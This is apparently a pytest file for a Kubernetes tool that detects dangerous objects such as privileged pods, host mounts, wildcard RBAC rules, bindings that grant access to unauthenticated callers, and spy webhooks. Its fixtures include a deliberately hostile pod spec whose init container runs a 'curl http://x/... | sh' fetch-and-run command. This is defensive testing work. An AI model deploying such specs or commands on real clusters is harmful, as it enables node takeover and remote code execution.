"""What is dangerous in an object is found wherever it is, named whole, and put first."""

from typing import Any

import pytest

from k8sconsole.model.dangers.danger import Rank, format_dangers
from k8sconsole.model.dangers.finder import find_dangers, find_new_dangers, service_account_of
from k8sconsole.model.dangers.permissions import rule_dangers

SCRIPT = "curl http://x/" + "a" * 3000 + " | sh"
EVIL: dict[str, Any] = {
    "hostPID": True,
    "hostNetwork": True,
    "serviceAccountName": "root-of-all",
    "volumes": [{"name": "node", "hostPath": {"path": "/", "type": "Directory"}}],
    "containers": [{"name": "app", "image": "good/app:1", "ports": [{"hostPort": 22, "containerPort": 22}]}],
    "initContainers": [
        {
            "name": "setup",
            "image": "evil/setup:1",
            "command": ["sh", "-c", SCRIPT],
            "securityContext": {"privileged": True, "procMount": "Unmasked", "capabilities": {"add": ["SYS_ADMIN", "NET_ADMIN"]}},
        },
        {"name": "mesh", "image": "m:1", "restartPolicy": "Always", "securityContext": {"runAsUser": 0}},
    ],
    "ephemeralContainers": [{"name": "dbg", "image": "d:1", "securityContext": {"seccompProfile": {"type": "Unconfined"}}}],
}
WANTED = (
    "hostPID: true",
    "hostNetwork: true",
    "volume node: path of the node: /",
    "container app: port of the node: 22",
    "init container setup: privileged: true",
    "init container setup: procMount: Unmasked",
    "init container setup: added capabilities: SYS_ADMIN, NET_ADMIN",
    "sidecar mesh: runs as root",
    "ephemeral container dbg: seccompProfile: Unconfined",
    "service account: root-of-all",
    "init container setup: image: evil/setup:1",
    SCRIPT,
)
TEMPLATE = {"template": {"spec": EVIL}}
PLACES: dict[str, dict[str, Any]] = {
    "a pod": {"apiVersion": "v1", "kind": "Pod", "spec": EVIL},
    "a deployment": {"apiVersion": "apps/v1", "kind": "Deployment", "spec": TEMPLATE},
    "a job": {"apiVersion": "batch/v1", "kind": "Job", "spec": TEMPLATE},
    "a cron job": {"apiVersion": "batch/v1", "kind": "CronJob", "spec": {"jobTemplate": {"spec": TEMPLATE}}},
    "a custom resource": {"apiVersion": "x.io/v1", "kind": "Thing", "spec": {"parts": [{"deep": {"podTemplate": {"spec": EVIL}}}]}},
    "a list of objects": {"apiVersion": "v1", "kind": "List", "items": [{"kind": "Pod", "apiVersion": "v1", "spec": EVIL}]},
}


@pytest.mark.parametrize("obj", PLACES.values(), ids=PLACES)
def test_a_pod_template_hides_nothing_wherever_it_is(obj: dict[str, Any]) -> None:
    lines = format_dangers(find_dangers(obj))
    for wanted in WANTED:
        assert any(wanted in line for line in lines), (wanted, lines)
    ranks = [next(at for at, line in enumerate(lines) if wanted in line) for wanted in (WANTED[4], WANTED[9])]
    assert ranks == sorted(ranks), "what takes over the node comes before what runs"


def test_only_what_a_change_adds_or_takes_away_is_named() -> None:
    before = {"apiVersion": "apps/v1", "kind": "Deployment", "spec": {"replicas": 3, **TEMPLATE}, "metadata": {"finalizers": ["x.io/f"]}}
    same = {**before, "metadata": {"labels": {"a": "b"}, "finalizers": ["x.io/f"]}}
    assert find_new_dangers(before, same) == []
    pods = {**EVIL, "containers": [{"name": "app", "image": "evil/app:2"}, {"name": "extra", "image": "e:1"}]}
    after = {**before, "spec": {"replicas": 0, "template": {"spec": pods}}, "metadata": {}}
    lines = format_dangers(find_new_dangers(before, after))
    assert lines[0] == "stops all 3 replicas: no pod serves"
    assert "removes finalizers, so nothing cleans up: x.io/f" in lines
    assert "container app: image: evil/app:2 (was good/app:1)" in lines
    assert "container extra: image: e:1" in lines
    assert "container app: no longer port of the node: 22" in lines
    assert not any("privileged" in line or "service account" in line for line in lines)


def test_a_rule_that_is_added_beside_another_is_not_said_to_replace_it() -> None:
    def role(*verbs: str) -> dict[str, Any]:
        rules = [{"verbs": [verb], "resources": ["*"], "apiGroups": [""]} for verb in verbs]
        return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "rules": rules}

    assert format_dangers(find_new_dangers(role("get"), role("get", "delete"))) == ["rule (a wildcard): delete on * in the core group"]
    lines = format_dangers(find_new_dangers(role("get", "list"), role("delete")))
    assert lines == [
        "rule (a wildcard): delete on * in the core group",
        "no longer rule (a wildcard): get on * in the core group",
        "no longer rule (a wildcard): list on * in the core group",
    ]


def test_a_long_command_comes_after_the_images_and_a_line_end_makes_no_line() -> None:
    first = {"name": "a", "image": "x:1", "command": ["echo", "n" * 5_000]}
    pod = {"containers": [first, {"name": "b", "image": "evil:1\nundo: yes", "env": [{"valueFrom": {"secretKeyRef": {"name": "db"}}}]}]}
    lines = format_dangers(find_dangers({"apiVersion": "v1", "kind": "Pod", "spec": pod}))
    assert lines.index("container b: image: evil:1\\nundo: yes") < next(at for at, line in enumerate(lines) if "echo" in line)
    assert "container b: reads the Secret: db" in lines


def test_containers_that_share_a_fact_share_its_line() -> None:
    names = [f"c{number}" for number in range(200)]
    pod = {"containers": [{"name": name, "image": "x:1", "securityContext": {"privileged": True}} for name in names]}
    lines = format_dangers(find_dangers({"apiVersion": "v1", "kind": "Pod", "spec": pod}))
    assert len(lines) == 3
    assert lines[0].startswith("container c0, container c1,")


ALL = {"verbs": ["*"], "resources": ["*"], "apiGroups": ["*"]}
RULES = {
    "* on * in every group": ALL,
    "get, list on secrets in the core group": {"verbs": ["get", "list"], "resources": ["secrets"], "apiGroups": [""]},
    "bind, escalate on clusterroles in rbac.authorization.k8s.io": {
        "verbs": ["bind", "escalate"], "resources": ["clusterroles"], "apiGroups": ["rbac.authorization.k8s.io"],
    },
    "create on pods/exec named a in the core group": {
        "verbs": ["create"], "resources": ["pods/exec"], "apiGroups": [""], "resourceNames": ["a"],
    },
    "* on the addresses /healthz": {"verbs": ["*"], "nonResourceURLs": ["/healthz"]},
}  # fmt: skip


@pytest.mark.parametrize(("text", "rule"), RULES.items(), ids=RULES)
def test_a_far_reaching_rule_is_named_whole_and_first(text: str, rule: dict[str, Any]) -> None:
    harmless = {"verbs": ["get"], "resources": ["configmaps"], "apiGroups": [""], "resourceNames": ["one"]}
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "rules": [harmless, rule]}
    first, second = format_dangers(find_dangers(role))
    assert first.endswith(text)
    assert second == "rule: get on configmaps named one in the core group"


def test_a_binding_names_its_role_and_every_subject_and_warns_of_everyone() -> None:
    role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    subjects = [{"kind": "ServiceAccount", "name": "ci", "namespace": "build"}, {"kind": "Group", "name": "system:unauthenticated"}]
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "roleRef": role, "subjects": subjects}
    assert format_dangers(find_dangers(binding)) == [
        "gives the role: ClusterRole cluster-admin in every namespace",
        "to the ServiceAccount: build/ci",
        "to the Group: system:unauthenticated (any caller without credentials)",
    ]
    assert format_dangers(rule_dangers([ALL], "ClusterRole cluster-admin")) == [
        "ClusterRole cluster-admin: rule (everything, as cluster-admin may): * on * in every group"
    ]


def test_what_listens_to_or_opens_the_cluster_is_named() -> None:
    hook = {"name": "spy.x.io", "clientConfig": {"url": "https://x.io/spy"}, "failurePolicy": "Ignore",
            "rules": [{"operations": ["*"], "apiGroups": ["*"], "resources": ["*"]}]}  # fmt: skip
    webhook = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration", "webhooks": [hook]}
    assert "webhook spy.x.io: requests go to: https://x.io/spy" in format_dangers(find_dangers(webhook))
    labels = {"pod-security.kubernetes.io/enforce": "privileged"}
    namespace = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"labels": labels}}
    assert format_dangers(find_dangers(namespace)) == ["pod security, enforce: privileged"]
    service = {"apiVersion": "v1", "kind": "Service", "spec": {"type": "LoadBalancer", "externalIPs": ["1.2.3.4"]}}
    assert format_dangers(find_dangers(service)) == ["externalIPs: 1.2.3.4", "reachable from outside the cluster: LoadBalancer"]
    volume = {"apiVersion": "v1", "kind": "PersistentVolume", "spec": {"hostPath": {"path": "/etc"}}}
    assert format_dangers(find_dangers(volume)) == ["path of the node: /etc"]


def test_a_kind_of_another_group_is_not_taken_for_a_role() -> None:
    assert find_dangers({"apiVersion": "db.example.com/v1", "kind": "Role", "rules": "none", "metadata": {}}) == []


def test_an_object_of_any_shape_and_depth_is_examined_without_an_error() -> None:
    deep: Any = {"privileged": True}
    for _ in range(500):
        deep = {"x": [deep]}
    (danger,) = find_dangers({"apiVersion": "x.io/v1", "kind": "Deep", "spec": deep})
    assert (danger.rank, "not examined" in danger.key) == (Rank.TAKES_OVER, True)
    for odd in (
        {"containers": [None, 3, "x", {"image": 5}]},
        {"hostPath": 3, "capabilities": [], "sysctls": {}, "lifecycle": 3, "image": "x", "name": 1},
    ):
        find_dangers({"apiVersion": "x.io/v1", "kind": "Odd", "spec": odd, "metadata": {"annotations": None}})


@pytest.mark.parametrize("kind", ["Role", "ClusterRoleBinding", "APIService", "Service", "CertificateSigningRequest"])
@pytest.mark.parametrize("odd", [3, "x", [3], {"x": 3}, None], ids=str)
def test_an_object_that_no_server_has_checked_is_examined_without_an_error(kind: str, odd: Any) -> None:
    group = {"Role": "rbac.authorization.k8s.io", "ClusterRoleBinding": "rbac.authorization.k8s.io", "APIService": "apiregistration.k8s.io",
             "CertificateSigningRequest": "certificates.k8s.io"}.get(kind, "")  # fmt: skip
    fields = ("rules", "aggregationRule", "roleRef", "subjects", "spec", "metadata")
    find_dangers({"apiVersion": f"{group}/v1".lstrip("/"), "kind": kind, **dict.fromkeys(fields, odd)})


def test_the_account_of_a_template_is_known_unless_its_token_is_not_mounted() -> None:
    assert service_account_of(PLACES["a cron job"]) == "root-of-all"
    assert service_account_of({"spec": {"containers": []}}) == "default"
    assert service_account_of({"spec": {"containers": [], "automountServiceAccountToken": False}}) == ""
